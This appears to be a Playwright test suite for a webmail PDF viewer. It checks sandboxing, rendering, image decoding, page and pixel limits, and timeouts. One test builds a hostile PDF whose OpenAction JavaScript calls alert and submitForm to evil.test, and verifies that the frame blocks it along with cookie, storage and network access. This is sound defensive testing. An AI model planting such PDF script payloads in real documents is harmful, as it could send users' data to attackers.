"""A PDF opened in place: drawn in a frame that has no origin of ours, loads nothing and runs no script of the file; and what ends it."""

import base64
import re
from typing import Any

import pytest

playwright = pytest.importorskip("playwright.sync_api")

from tests.lasting import lasting  # noqa: E402
from tests.scenario.server import RoostServer  # noqa: E402
from tests.web.browser import row, signed_in  # noqa: E402
from tests.web.gallery.test_gallery import needs_parts  # noqa: E402
from tests.web.mail import put  # noqa: E402

pytestmark = [pytest.mark.browser, needs_parts]
expect = playwright.expect
ME = "u1@x.test"


server = lasting(lambda: RoostServer(listeners=("smtp", "imap", "http"), people=1))


def pdf_of(*, pages: int = 1, box: str = "0 0 300 200", text: str = "Hello from page", more: str = "") -> bytes:
    """A PDF by hand: a line of text on each page."""
    kids = " ".join(f"{4 + 2 * n} 0 R" for n in range(pages))
    parts = [f"<< /Type /Catalog /Pages 2 0 R {more} >>", f"<< /Type /Pages /Kids [{kids}] /Count {pages} >>", "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"]
    for number in range(pages):
        drawing = f"BT /F1 24 Tf 20 100 Td ({text} {number + 1}) Tj ET 0 0 1 rg 20 20 200 40 re f"
        parts.append(f"<< /Type /Page /Parent 2 0 R /MediaBox [{box}] /Contents {5 + 2 * number} 0 R /Resources << /Font << /F1 3 0 R >> >> >>")
        parts.append(f"<< /Length {len(drawing)} >>\nstream\n{drawing}\nendstream")
    return joined([part.encode() for part in parts])


def joined(parts: list[bytes]) -> bytes:
    """The objects of a PDF as a file."""
    out, places = b"%PDF-1.7\n", []
    for number, part in enumerate(parts, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, part)
    start = len(out)
    out += f"xref\n0 {len(parts) + 1}\n0000000000 65535 f \n".encode() + b"".join(b"%010d 00000 n \n" % place for place in places)
    return out + f"trailer\n<< /Size {len(parts) + 1} /Root 1 0 R >>\nstartxref\n{start}\n%%EOF\n".encode()


def deliver(server: RoostServer, subject: str, content: bytes) -> None:
    lines = [
        "From: Ann <ann@out.test>", f"To: {ME}", f"Subject: {subject}", f"Message-ID: <{subject}@out.test>", "MIME-Version: 1.0", 'Content-Type: multipart/mixed; boundary="b"', "",
        "--b", "Content-Type: text/plain", "", "See the file", "--b", 'Content-Type: application/pdf; name="plan.pdf"', "Content-Transfer-Encoding: base64",
        'Content-Disposition: attachment; filename="plan.pdf"', "", base64.encodebytes(content).decode().replace("\n", "\r\n"), "--b--", "",
    ]  # fmt: skip
    put(server, "INBOX", "\r\n".join(lines).encode(), ME)


def opened(browser: Any, server: RoostServer, subject: str, content: bytes, change: Any = None) -> tuple[Any, list[str]]:
    """The page that shows the file, reached from the message; *change* alters its HTML on the way."""
    deliver(server, subject, content)
    page, troubles = signed_in(browser, server, ME, service_workers="block")
    row(page, subject).locator(".row-sub > a").click()
    link = page.locator("#reader a.file-open", has_text="plan.pdf")
    expect(link).to_be_visible()
    if change is not None:
        page.route(re.compile("/mail/pdf/"), lambda route: (lambda reply: route.fulfill(response=reply, body=change(reply.text())))(route.fetch()))
    page.goto(link.get_attribute("href"))
    return page, troubles


def frame_of(page: Any) -> Any:
    frame = page.wait_for_selector("iframe.pdf-frame").content_frame()
    frame.wait_for_url("**/mail/pdf-frame**")
    frame.wait_for_selector("canvas")
    return frame


def test_a_pdf_is_drawn_with_its_words_for_screen_readers_and_grows(browser: Any, server: RoostServer) -> None:
    page, troubles = opened(browser, server, "Drawn", pdf_of(pages=3))
    frame = frame_of(page)
    expect(page.locator("[data-count]")).to_have_text("3 pages")
    assert "Hello from page 1" in frame.locator(".page p").first.inner_text()
    blue = frame.locator("canvas").first.evaluate("c => { const d = c.getContext('2d').getImageData(0, 0, c.width, c.height).data; let n = 0; for (let i = 0; i < d.length; i += 4) if (d[i + 2] > 200 && d[i] < 60) n += 1; return n }")
    assert blue > 500, "the rectangle of the page is there"
    before = frame.locator(".page").first.evaluate("e => e.clientWidth")
    page.click("[data-zoom='1']")
    expect(frame.locator(".page").first).not_to_have_js_property("clientWidth", before)
    assert frame.locator(".page").first.evaluate("e => e.clientWidth") > before
    assert troubles == []


JPX = "AAAADGpQICANCocKAAAAFGZ0eXBqcDIgAAAAAGpwMiAAAAAtanAyaAAAABZpaGRyAAAAIAAAACAAAwcHAAAAAAAPY29scgEAAAAAABAAAACwanAyY/9P/1EALwAAAAAAIAAAACAAAAAAAAAAAAAAACAAAAAgAAAAAAAAAAAAAwcBAQcBAQcBAf9SAAwAAAABAAUEBAAB/1wAE0BASEhQSEhQSEhQSEhQSEhQ/2QAJQABQ3JlYXRlZCBieSBPcGVuSlBFRyB2ZXJzaW9uIDIuNS40/5AACgAAAAAAKQAB/5PfeAgH33gIB8+kCACAgICAgICAgICAgICAgID/2Q=="
JBIG2 = "AAAAADAAAQAAABMAAAAgAAAAIAAAAAAAAAAAAAAAAAAAASYAAQAAACYAAAAgAAAAIAAAAAAAAAAAAAEmoNX//ItX/////////+P//ABABA=="
"""A blue square, and a black one on white."""


def picture_pdf() -> bytes:
    """A PDF with one picture of each kind that needs a decoder of its own."""
    pictures = [("JPXDecode", "/ColorSpace /DeviceRGB /BitsPerComponent 8", JPX), ("JBIG2Decode", "/ColorSpace /DeviceGray /BitsPerComponent 1", JBIG2)]
    drawing = b"q 100 0 0 100 20 50 cm /P0 Do Q q 100 0 0 100 160 50 cm /P1 Do Q"
    parts = [
        b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Contents 4 0 R /Resources << /XObject << /P0 5 0 R /P1 6 0 R >> >> >>",
        b"<< /Length %d >>\nstream\n%s\nendstream" % (len(drawing), drawing),
    ]  # fmt: skip
    for name, more, data in pictures:
        bytes_ = base64.b64decode(data)
        parts.append(f"<< /Type /XObject /Subtype /Image /Width 32 /Height 32 /Filter /{name} {more} /Length {len(bytes_)} >>\nstream\n".encode() + bytes_ + b"\nendstream")
    return joined(parts)


COLOURS = """c => { const d = c.getContext('2d').getImageData(0, 0, c.width, c.height).data; let blue = 0, black = 0;
for (let i = 0; i < d.length; i += 4) { if (d[i + 2] > 200 && d[i] < 60) blue += 1; if (d[i + 2] < 60 && d[i] < 60 && d[i + 3] > 200) black += 1; } return [blue, black] }"""


def test_pictures_in_jpeg_2000_and_jbig2_are_decoded_without_a_wider_policy(browser: Any, server: RoostServer) -> None:
    page, _troubles = opened(browser, server, "Scanned", picture_pdf())
    frame = frame_of(page)
    blue, black = frame.locator("canvas").first.evaluate(COLOURS)
    assert blue > 2000 and black > 500, (blue, black)
    assert "wasm" not in page.request.get("/mail/pdf-frame").headers["content-security-policy"]


def test_the_frame_reaches_nothing_and_no_script_of_the_file_runs(browser: Any, server: RoostServer) -> None:
    script = "/OpenAction << /S /JavaScript /JS (app.alert\\('x'\\); this.submitForm\\('http://evil.test/'\\)) >>"
    page, _troubles = opened(browser, server, "Hostile", pdf_of(more=script))
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.on("dialog", lambda dialog: pytest.fail("a script of the file ran"))
    frame = frame_of(page)
    assert frame.evaluate("self.origin") == "null"
    for try_ in ("document.cookie", "localStorage.length", "parent.document.title", "top.location.href"):
        assert frame.evaluate(f"(() => {{ try {{ return 'read: ' + ({try_}) }} catch {{ return 'refused' }} }})()") in ("refused",), try_
    for target in ("/mail", "https://evil.test/"):
        assert frame.evaluate(f"fetch({target!r}).then(() => 'reached', () => 'refused')") == "refused"
    assert frame.evaluate("new Promise(done => { const i = new Image(); i.onload = () => done('reached'); i.onerror = () => done('refused'); i.src = '/static/favicon.svg' })") == "refused"
    assert frame.evaluate("(() => { try { return window.open('https://evil.test/') ? 'opened' : 'refused' } catch { return 'refused' } })()") == "refused"
    assert not any("evil.test" in url for url in asked)


def test_what_is_no_pdf_and_what_is_locked_say_so_and_can_still_be_saved(browser: Any, server: RoostServer) -> None:
    page, _troubles = opened(browser, server, "Broken", b"this is no pdf at all")
    expect(page.locator("[data-said]")).to_contain_text("may be damaged")
    expect(page.locator("iframe.pdf-frame")).to_have_count(0)
    expect(page.locator("a[download]")).to_be_visible()


def test_pages_and_pixels_have_an_end(browser: Any, server: RoostServer) -> None:
    from webmail.pdf import PAGE_PIXELS, PAGES

    page, _troubles = opened(browser, server, "Long", pdf_of(pages=PAGES + 10))
    frame = frame_of(page)
    expect(page.locator("[data-count]")).to_have_text(f"The first {PAGES} of {PAGES + 10} pages are shown.")
    assert frame.locator(".page").count() == PAGES and frame.locator("canvas").count() < 20, "only what is near is drawn"
    page, _troubles = opened(browser, server, "Vast", pdf_of(box="0 0 14400 14400"), lambda html: html.replace(str(PAGE_PIXELS), "40000"))
    canvas = frame_of(page).locator("canvas").first
    assert canvas.evaluate("c => c.width * c.height") <= 40_000


def test_a_file_that_takes_too_long_or_is_too_big_is_only_offered_to_be_saved(browser: Any, server: RoostServer) -> None:
    page, _troubles = opened(browser, server, "Slow", pdf_of(), lambda html: html.replace("&#34;seconds&#34;: 20", "&#34;seconds&#34;: 0"))
    expect(page.locator("[data-said]")).to_contain_text("takes too long")
    expect(page.locator("iframe.pdf-frame")).to_have_count(0)
    page, _troubles = opened(browser, server, "Big", pdf_of(), lambda html: re.sub(r"&#34;bytes&#34;: \d+", "&#34;bytes&#34;: 10", html))
    expect(page.locator("[data-said]")).to_contain_text("takes too long")
